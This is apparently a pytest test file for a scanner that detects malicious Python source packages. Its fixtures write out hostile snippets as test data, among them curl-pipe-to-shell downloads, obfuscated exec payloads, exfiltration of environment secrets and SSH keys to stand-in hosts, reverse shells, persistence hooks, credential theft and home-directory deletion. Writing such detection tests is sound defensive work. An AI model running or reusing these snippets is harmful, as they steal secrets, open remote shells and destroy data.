"""Each rule family of the heuristics on small real sdists: the attack shapes public reports
describe are caught at their line, and the benign look-alikes stay below a fail."""

from __future__ import annotations

import base64
import codecs
import zlib

import pytest
from scanner_trees import sdist_tree

from shouldi.results import Severity, Status
from shouldi.scanners.heuristics import HeuristicsScanner
from shouldi.scanners.heuristics.indicators import SHADY_ENDPOINTS

TOP = "demo-1.0"
C, H, M, L, INFO = (Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW,
                    Severity.INFO)
RUN = "import os\nos.system('curl -s http://203.0.113.5/x | sh')\n"


def findings(tmp_path, code, where="demo/__init__.py"):
    files = {where: code}
    if where.startswith("demo/") and where != "demo/__init__.py":
        files["demo/__init__.py"] = ""
    result = HeuristicsScanner().scan(sdist_tree(tmp_path, files))
    assert result.status is Status.OK
    return {(f.rule, f.line, f.severity) for f in result.findings}


def fails(found):
    return {(rule, line) for rule, line, severity in found if severity.rank >= H.rank}


def b64(text):
    return base64.b64encode(text.encode()).decode()


# -- decoded payloads ---------------------------------------------------------------------------

@pytest.mark.parametrize("code", [
    f"import base64\nexec(base64.b64decode('{b64(RUN)}'))\n",
    f"import base64, zlib\nexec(zlib.decompress(base64.b64decode("
    f"'{base64.b64encode(zlib.compress(RUN.encode())).decode()}')))\n",
    f"import codecs\nexec(codecs.decode({codecs.encode(RUN, 'rot13')!r}, 'rot13'))\n",
    f"exec(bytes.fromhex('{RUN.encode().hex()}').decode())\n",
    f"exec(''.join(chr(c) for c in {[ord(c) for c in RUN]}))\n",
    f"import base64\nexec(base64.b64decode('{b64(RUN)[::-1]}'[::-1]))\n",
    f"_ = lambda __: __import__('base64').b64decode(__[::-1])\nexec(_('{b64(RUN)[::-1]}'))\n",
    f"import base64\np = base64.b64decode('{b64(RUN)}')\nc = p.decode()\nexec(compile(c, '<x>', 'exec'))\n",
    "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))\n",
    "import base64, pickle\npickle.loads(base64.b64decode('gASV'))\n",
], ids=["base64", "zlib", "rot13", "fromhex", "chr-join", "reversed", "lambda-chain",
        "two-steps", "marshal", "pickle"])
def test_decoded_code_that_runs_fails(tmp_path, code):
    found = findings(tmp_path, code)
    assert any(rule == "exec-decoded-data" and severity is C for rule, _, severity in found), found


def test_decoded_payloads_are_read_as_code(tmp_path):
    """What a literal decodes to is analysed at the exec line: the curl | sh inside shows."""
    found = findings(tmp_path, f"import base64\nexec(base64.b64decode('{b64(RUN)}'))\n")
    assert ("download-exec", 2, C) in found and ("shady-endpoint", 2, H) in found


@pytest.mark.parametrize("code", [
    "import base64\nICON = base64.b64decode('iVBORw0KGgo=')\n",
    "import zlib, base64, json\nTABLE = json.loads(zlib.decompress(base64.b64decode('eJyrrgUAAXUA+Q==')))\n",
    "import codecs\nZEN = codecs.decode('Ornhgvshy', 'rot13')\n",
    "exec(open('demo/_version.py').read())\n",
    "import builtins\nexec_ = getattr(builtins, 'exec')\nexec_('def reraise(v):\\n    raise v\\n')\n",
    "PRINTABLE = ''.join(chr(c) for c in range(32, 127))\n",
    "import codecs\nexec(codecs.decode(open('x.py', 'rb').read(), 'utf-8'))\n",
], ids=["icon", "table", "easter-egg", "version-reader", "six-exec", "chr-table", "utf8-decode"])
def test_decoding_without_running_is_not_a_fail(tmp_path, code):
    assert not fails(findings(tmp_path, code))


# -- obfuscation ---------------------------------------------------------------------------------

@pytest.mark.parametrize("code", [
    "getattr(__import__('bu' + 'iltins'), 'ex' + 'ec')('print(1)')\n",
    "__import__('o' + 's').system('id')\n",
    "globals()['__builtins__'].__dict__['exec']('print(1)')\n",
    "import sys\nsys.modules['o' + 's'].system('id')\n",
], ids=["getattr-concat", "import-concat", "builtins-dict", "sys-modules"])
def test_hidden_names_of_sensitive_calls(tmp_path, code):
    assert ("obfuscated-call", 1 + code.count("\n") - 1, H) in findings(tmp_path, code)


def test_hidden_names_of_harmless_calls_are_not_evidence(tmp_path):
    """celery hides sys._getframe as 'emarfteg_'[::-1]; pyyaml imports a variable module."""
    code = ("import sys\nf = getattr(sys, 'emarfteg_'[::-1])(1)\n"
            "def find(name):\n    module = 'builtins'\n    __import__(module)\n")
    assert not fails(findings(tmp_path, code))


def test_code_hidden_far_right(tmp_path):
    code = "VERSION = '1.0'" + " " * 150 + ";import os;os.system('id')\n"
    found = findings(tmp_path, code)
    assert ("hidden-code", 1, H) in found
    assert not fails(findings(tmp_path / "b", "x = [\n" + " " * 120 + "1]\n"))


def test_pyarmor_is_unreadable_code_that_warns(tmp_path):
    code = "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, b'x')\n"
    assert ("obfuscated-code", 3, M) in findings(tmp_path, code)


# -- download and run ----------------------------------------------------------------------------

@pytest.mark.parametrize("code", [
    "import requests\nexec(requests.get('https://files.example/a/b/c.py').text)\n",
    "from urllib.request import urlopen\ncode = urlopen('https://code.example/p').read()\nexec(code)\n",
    "import os\nos.system('curl -fsSL https://code.example/i.sh | bash')\n",
    "import subprocess\nsubprocess.Popen('powershell -c \"iwr https://x.example/a.exe -OutFile a.exe\"', shell=True)\n",
    "import os\nos.system(r'certutil -urlcache -split -f http://x.example/a.exe a.exe')\n",
    "import requests\ndef run(code):\n    exec(code)\nrun(requests.get('https://code.example/s').text)\n",
    "import dns.resolver\nfor r in dns.resolver.resolve('c.example', 'TXT'):\n    exec(r.strings[0])\n",
], ids=["requests", "urlopen", "curl-pipe", "powershell", "certutil", "helper", "dns-txt"])
def test_download_and_run(tmp_path, code):
    assert "download-exec" in {rule for rule, _ in fails(findings(tmp_path, code))}


@pytest.mark.parametrize("code", [
    "import os, requests\np = os.path.join(os.environ['TEMP'], 'u.exe')\n"
    "open(p, 'wb').write(requests.get('https://x.example/u.exe').content)\nos.startfile(p)\n",
    "import base64, subprocess, tempfile, os\nexe = os.path.join(tempfile.gettempdir(), 'a.exe')\n"
    "with open(exe, 'wb') as f:\n    f.write(base64.b64decode('TVqQ'))\nsubprocess.Popen(exe)\n",
    "import urllib.request, subprocess\nurllib.request.urlretrieve('http://x.example/a', '/tmp/a')\n"
    "subprocess.call(['/tmp/a'])\n",
    "import base64, ctypes\nopen('/tmp/x.dll', 'wb').write(base64.b64decode('TVqQ'))\n"
    "ctypes.CDLL('/tmp/x.dll')\n",
], ids=["startfile", "decoded-exe", "urlretrieve", "dll"])
def test_files_written_from_payloads_and_run(tmp_path, code):
    assert "drop-and-run" in {rule for rule, _ in fails(findings(tmp_path, code))}


def test_a_build_that_downloads_but_runs_nothing_only_warns(tmp_path):
    code = ("import hashlib, urllib.request\n"
            "data = urllib.request.urlopen('https://releases.example/o/r/x.tar.gz').read()\n"
            "assert hashlib.sha256(data).hexdigest() == 'ab'\n"
            "open('demo/data.bin', 'wb').write(data)\n")
    found = findings(tmp_path, code, "setup.py")
    assert not fails(found) and ("network", 2, M) in found


# -- exfiltration ----------------------------------------------------------------------------

@pytest.mark.parametrize(("code", "severity"), [
    ("import os, requests\nrequests.post('https://collector.example/e', json=dict(os.environ))\n", C),
    ("import os, urllib.request\nurllib.request.urlopen('https://c.example/', "
     "data=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n", C),
    ("import socket, getpass, requests\nrequests.post('https://c.example/', "
     "data={'h': socket.gethostname(), 'u': getpass.getuser()})\n", H),
    ("import socket, getpass\nsocket.gethostbyname(getpass.getuser().encode().hex() + '.x.example')\n",
     H),
    ("import os, requests\ndef send(d):\n    requests.post('https://c.example/', data=d)\n"
     "send(os.environ.get('AWS_SECRET_ACCESS_KEY'))\n", C),
    ("import os, requests\nclass G:\n    def __init__(self):\n"
     "        self.t = open(os.path.expanduser('~/.netrc')).read()\n        self.send()\n"
     "    def send(self):\n        requests.post('https://c.example', data=self.t)\nG()\n", C),
    ("import os, subprocess\nsubprocess.run('curl -d \"$(env)\" https://c.example', shell=True)\n", H),
    ("import os\nos.system('nslookup $(whoami).x.example')\n", H),
], ids=["environ", "ssh-key", "host", "dns", "helper", "class-attribute", "curl-env", "nslookup"])
def test_exfiltration(tmp_path, code, severity):
    found = findings(tmp_path, code)
    assert max((s for r, _, s in found if r == "exfiltration"), key=lambda s: s.rank,
               default=None) is severity, found


def test_reading_secrets_and_sending_in_one_file_is_exfiltration(tmp_path):
    """No data flow to follow (a container hides it), but both run at import in one file."""
    code = ("import os, requests\nbag = []\nbag.append(open(os.path.expanduser('~/.aws/credentials')).read())\n"
            "requests.post('https://c.example', data={'x': bag.pop()})\n")
    found = findings(tmp_path, code)
    assert ("credential-access", 3, H) in found
    assert ("exfiltration", 4, H) in found or ("exfiltration", 4, C) in found


def test_sdk_reading_its_own_key_is_not_exfiltration(tmp_path):
    code = ("import os, requests\nAPI_KEY = os.environ.get('SERVICE_API_KEY')\n"
            "def call(path):\n    return requests.get('https://api.example/' + path, "
            "headers={'Authorization': API_KEY})\n")
    assert not fails(findings(tmp_path, code))


# -- credentials, spyware, persistence, shells -------------------------------------------------

@pytest.mark.parametrize("code", [
    "import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
    "import os, shutil\nshutil.copy(os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', "
    "'User Data', 'Default', 'Login Data'), 'x')\n",
    "import os\nfiles = os.listdir(os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', "
    "'leveldb'))\n",
    "import win32crypt\nwin32crypt.CryptUnprotectData(b'x', None, None, None, 0)\n",
], ids=["ssh", "chrome", "discord", "dpapi"])
def test_credential_access(tmp_path, code):
    assert "credential-access" in {rule for rule, _ in fails(findings(tmp_path, code))}


def test_credential_paths_named_but_not_read_are_information(tmp_path):
    code = "import os\nDEFAULT_KEY = os.path.expanduser('~/.ssh/id_rsa')\n"
    assert ("credential-path", 2, L) in findings(tmp_path, code)


@pytest.mark.parametrize("call", ["pyperclip.paste()", "PIL.ImageGrab.grab()",
                                  "pynput.keyboard.Listener(on_press=print).start()"])
def test_spyware_at_import_fails_and_in_a_function_informs(tmp_path, call):
    module = call.split("(")[0].rsplit(".", 1)[0]
    assert ("spyware", 2, H) in findings(tmp_path, f"import {module}\n{call}\n")
    assert ("spyware", 3, L) in findings(tmp_path / "f", f"import {module}\ndef f():\n    {call}\n")


@pytest.mark.parametrize("code", [
    "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl x | sh')\n",
    "import os\np = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', "
    "'Programs', 'Startup', 'u.vbs')\nopen(p, 'w').write('x')\n",
    "import os, site\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w').write('import x')\n",
    "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
    "r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\nwinreg.SetValueEx(k, 'u', 0, 1, 'x')\n",
    "import os\nos.system('(crontab -l; echo \"* * * * * /tmp/x\") | crontab -')\n",
    "from pathlib import Path\n(Path.home() / '.config' / 'autostart' / 'x.desktop').write_text('x')\n",
], ids=["bashrc", "startup-folder", "pth", "run-key", "cron", "xdg-autostart"])
def test_persistence(tmp_path, code):
    assert "persistence" in {rule for rule, _ in fails(findings(tmp_path, code))}


def test_a_pth_copied_into_the_build_tree_is_not_persistence(tmp_path):
    """pytest-cov's build_py copies its .pth into build_lib: inside the tree, not outside."""
    code = ("import os, shutil\nfrom setuptools.command.build_py import build_py\n"
            "class B(build_py):\n    def run(self):\n        build_py.run(self)\n"
            "        shutil.copy('src/cov.pth', os.path.join(self.build_lib, 'cov.pth'))\n"
            "from setuptools import setup\nsetup(cmdclass={'build_py': B})\n")
    assert not fails(findings(tmp_path, code, "setup.py"))


@pytest.mark.parametrize(("code", "rule"), [
    ("import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.1', 4444))\n"
     "os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n", "reverse-shell"),
    ("import os\nos.system('bash -i >& /dev/tcp/203.0.113.1/4444 0>&1')\n", "reverse-shell"),
    ("import subprocess\nsubprocess.Popen(['xmrig', '-o', 'stratum+tcp://pool.example:3333'])\n",
     "cryptominer"),
    ("import ctypes\nm = ctypes.windll.kernel32.VirtualAlloc(0, 4096, 0x3000, 0x40)\n",
     "shellcode-loader"),
    ("import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n", "destructive"),
    ("import subprocess\nsubprocess.Popen(['x.exe'], creationflags=0x00000008)\n", "silent-process"),
    ("import subprocess\nsubprocess.Popen(['./agent'], start_new_session=True)\n", "silent-process"),
    ("import os\nos.system('nohup ./agent >/dev/null 2>&1 &')\n", "silent-process"),
], ids=["socket-pty", "dev-tcp", "xmrig", "virtualalloc", "rmtree-home", "detached",
        "new-session", "nohup"])
def test_other_evidence(tmp_path, code, rule):
    assert rule in {r for r, _ in fails(findings(tmp_path, code))}


def test_bidi_controls_in_code_but_not_in_strings(tmp_path):
    assert ("bidi-control", 1, H) in findings(tmp_path, "x = 1  # \u202e evil\n")
    assert not fails(findings(tmp_path / "s", "RLO = '\u202e'\n"))


# -- endpoints and plain capabilities ---------------------------------------------------------

#: One listed service of each kind, from the rule's own table (never contacted)
SHADY_URLS = [f"https://{kind[0]}/x" for kind in SHADY_ENDPOINTS.values()]


@pytest.mark.parametrize(("url", "shady"), [
    *((url, True) for url in SHADY_URLS),
    ("https://packages.example/simple/", False), ("https://api.code.example/repos", False),
    ("http://203.0.113.9:8080/x", True), ("http://127.0.0.1:8000/", False),
    ("http://192.168.1.10/", False),
])
def test_network_at_import_warns_and_shady_endpoints_fail(tmp_path, url, shady):
    found = findings(tmp_path, f"import requests\nrequests.get({url!r})\n")
    assert (("shady-endpoint", 2, H) in found) is shady
    assert (("network", 2, M) in found) is not shady


@pytest.mark.parametrize("code", [
    "import requests\nsession = requests.Session()\n",
    "import urllib3\nhttp = urllib3.PoolManager()\n",
    "import socket\ns = socket.socket()\n",
    "import requests.utils\nport = requests.utils.DEFAULT_PORTS.get('http')\n",
    "import socket\nHOST = socket.gethostname()\n",
], ids=["session", "pool", "socket", "dict-get", "hostname"])
def test_objects_that_connect_nothing_yet(tmp_path, code):
    assert not {r for r, _, s in findings(tmp_path, code) if s.rank >= M.rank}


def test_writes_outside_the_package(tmp_path):
    code = ("import os, shutil\nshutil.copy('tool', '/usr/local/bin/tool')\n"
            "open('build/local.txt', 'w')\nopen('/dev/null', 'w')\nopen(os.environ['HOME'] + '/x', 'w')\n")
    found = findings(tmp_path, code)
    assert {(r, line) for r, line, s in found if s is M} == {("write-outside", 2),
                                                              ("write-outside", 5)}


def test_native_libraries_loaded_at_import_are_information(tmp_path):
    code = "import ctypes, os\nlib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'x.so'))\n"
    assert ("native-load", 2, L) in findings(tmp_path, code)


@pytest.mark.parametrize("code", [
    "import os\np = os.path.join(os.path.expanduser('~'), '.cache', 'demo', 'fonts.json')\n"
    "open(p, 'w').write('{}')\n",
    "import os, tempfile\nopen(os.path.join(tempfile.gettempdir(), 'probe.c'), 'w').write('x')\n",
    "open('/tmp/demo-build.log', 'a').write('built')\n",
], ids=["user-cache", "tempdir", "tmp"])
def test_scratch_and_cache_writes_are_not_outside_writes(tmp_path, code):
    assert not {r for r, _, s in findings(tmp_path, code) if s.rank >= M.rank}


@pytest.mark.parametrize("code", [
    "import requests, shutil, subprocess\nr = requests.get('https://x.example/a', stream=True)\n"
    "with open('/tmp/a', 'wb') as f:\n    shutil.copyfileobj(r.raw, f)\nsubprocess.call(['/tmp/a'])\n",
    "import os\nos.execv('/bin/sh', ['sh', '-c', 'curl -s https://x.example/i | sh'])\n",
], ids=["copyfileobj", "execv"])
def test_more_download_and_run_shapes(tmp_path, code):
    assert {"drop-and-run", "download-exec"} & {rule for rule, _ in fails(findings(tmp_path, code))}


def test_opening_a_browser_at_import_is_a_network_capability(tmp_path):
    assert ("network", 2, M) in findings(tmp_path, "import webbrowser\nwebbrowser.open('https://x.example')\n")


def test_a_hidden_console_window_alone_is_not_evidence(tmp_path):
    """loky (joblib) asks wmic for the core count without flashing a console window."""
    code = ("import subprocess\nsubprocess.run(['wmic', 'CPU', 'Get', 'NumberOfCores'], "
            "creationflags=subprocess.CREATE_NO_WINDOW)\n")
    assert ("process-spawn", 2, M) in findings(tmp_path, code)
    assert not fails(findings(tmp_path / "b", code))


def test_subclassing_runs_no_base_class_code(tmp_path):
    code = ("import socket\nclass Transport:\n    def __init__(self):\n"
            "        socket.create_connection(('host.example', 22))\n"
            "class Fast(Transport):\n    pass\n")
    assert ("network", 4, INFO) in findings(tmp_path, code)
    assert ("network", 4, M) in findings(tmp_path / "b", code + "Fast()\n")


# -- version stamping: a constant read-only git/hg query ----------------------------------------

GIT_AT_IMPORT = "import subprocess\n__version__ = subprocess.check_output({command}{extra}).strip()\n"


@pytest.mark.parametrize("command", [
    "['git', 'describe', '--tags', '--always', '--long']",
    "'git log --pretty=format:%ct --quiet -1 HEAD'",
    "['git', 'rev-parse', '--short', 'HEAD']",
    "['hg', 'id', '-i']",
], ids=["git-describe", "git-log-shell-string", "git-rev-parse", "hg-id"])
def test_a_constant_read_only_vcs_query_at_import_informs(tmp_path, command):
    found = findings(tmp_path, GIT_AT_IMPORT.format(command=command, extra=", shell=False"))
    assert ("vcs-query", 2, L) in found and not any(r == "process-spawn" for r, _, _ in found), found


@pytest.mark.parametrize(("command", "extra"), [
    ("['git', 'log', '--output=/tmp/x']", ""),  # writes a file
    ("['git', '-c', 'core.pager=sh', 'log']", ""),  # another configuration
    ("['git', 'describe', '--dirty']", ""),  # refreshes the index: the fsmonitor hook runs
    ("['git', 'status']", ""),
    ("'git log; id'", ", shell=True"),  # shell syntax
    ("['git', 'log', VERSION]", ""),  # a part that does not fold
    ("['git', 'log']", ", env={'GIT_EXTERNAL_DIFF': 'sh'}"),  # GIT_* variables run commands
    ("['git', 'log']", ", executable='/tmp/x'"),
], ids=["output", "config", "dirty", "status", "shell", "unfolded", "env", "executable"])
def test_any_other_git_command_at_import_still_warns(tmp_path, command, extra):
    found = findings(tmp_path, GIT_AT_IMPORT.format(command=command, extra=extra))
    assert ("process-spawn", 2, M) in found, found


def test_a_query_in_a_package_that_ships_its_own_repository_warns(tmp_path):
    """A shipped ``.git`` config can make ``git log`` run a program (``gpg.program`` with
    ``log.showSignature``), so the query is a process start like any other there."""
    code = GIT_AT_IMPORT.format(command="['git', 'log', '-1']", extra="")
    files = {"demo/__init__.py": code, "demo/.git/config": "[log]\n\tshowSignature = true\n"}
    result = HeuristicsScanner().scan(sdist_tree(tmp_path, files))
    spawned = [f for f in result.findings if f.rule == "process-spawn"]
    assert [(f.line, f.severity) for f in spawned] == [(2, M)]
    assert "ships or configures a repository" in spawned[0].message
    assert not any(f.rule == "vcs-query" for f in result.findings)


def test_a_query_in_a_package_that_sets_git_configuration_warns(tmp_path):
    """``GIT_CONFIG_PARAMETERS`` set in one module makes another's ``git log`` run a program."""
    files = {"demo/__init__.py": "import os\nos.environ['GIT_CONFIG_PARAMETERS'] = \"'log.showSignature=1'\"\n"
                                 "from demo import version\n",
             "demo/version.py": GIT_AT_IMPORT.format(command="['git', 'log', '-1']", extra="")}
    result = HeuristicsScanner().scan(sdist_tree(tmp_path, files))
    spawned = [f for f in result.findings if f.rule == "process-spawn" and f.file.endswith("version.py")]
    assert [(f.line, f.severity) for f in spawned] == [(2, M)]
    assert "sets git/hg configuration" in spawned[0].message
